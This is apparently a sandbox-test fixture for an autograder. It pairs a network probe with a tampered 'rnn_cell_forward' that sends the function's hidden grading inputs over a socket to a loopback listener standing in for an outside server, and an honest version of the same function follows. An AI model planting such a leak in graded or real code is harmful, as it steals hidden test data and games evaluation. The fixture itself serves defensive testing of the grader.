# ruff: noqa
# description: opens the network from student code: a listener on 127.0.0.1 and a connection to it carrying data (the loopback listener stands for a classmate's server or the Internet), and the same from inside rnn_cell_forward while it is graded, sending its hidden inputs
# attacks: rnn_cell_forward
# ran: NET-PROBE
# %% attack
import socket

def _net_probe(payload=b"hello"):
    try:
        server = socket.socket(socket.AF_INET, socket.SOCK_STREAM)
        server.bind(("127.0.0.1", 0))
        server.listen(1)
        client = socket.create_connection(server.getsockname(), timeout=2)
        client.sendall(payload)
        client.close()
        server.close()
        return "open"
    except OSError as exc:
        return f"closed (errno {exc.errno})"

print("NET-PROBE", _net_probe())
# %% replace rnn_cell_forward
def rnn_cell_forward(x_t, h_prev, parameters):
    _net_probe(repr(x_t.tolist()).encode()[:4000])
    h_next = np.tanh(parameters["U"] @ h_prev + parameters["V"] @ x_t + parameters["beta1"])
    return h_next, None
# %% honest rnn_cell_forward
def rnn_cell_forward(x_t, h_prev, parameters):
    h_next = np.tanh(parameters["U"] @ h_prev + parameters["V"] @ x_t + parameters["beta1"])
    return h_next, None
